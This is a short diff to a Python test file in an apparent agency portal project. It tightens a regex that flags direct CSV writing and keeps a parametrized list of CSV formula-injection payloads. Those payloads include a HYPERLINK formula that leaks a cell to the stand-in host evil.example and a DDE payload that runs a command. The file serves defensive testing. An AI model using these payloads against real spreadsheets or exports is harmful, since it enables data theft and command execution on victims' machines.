@@ -21,7 +21,8 @@ from portal.models import Agency
 ATTACKS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1"]
 ROOT = Path(__file__).resolve().parents[2]
-WRITES_CSV = re.compile(r"^\s*(import csv\b|from csv import)|csv\.(writer|DictWriter)", re.M)
+# Reading a CSV file (as the release check does) is fine; writing one must go through csvfile.
+WRITES_CSV = re.compile(r"csv\.(writer|DictWriter)\b|from csv import .*\b(writer|DictWriter)\b")
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
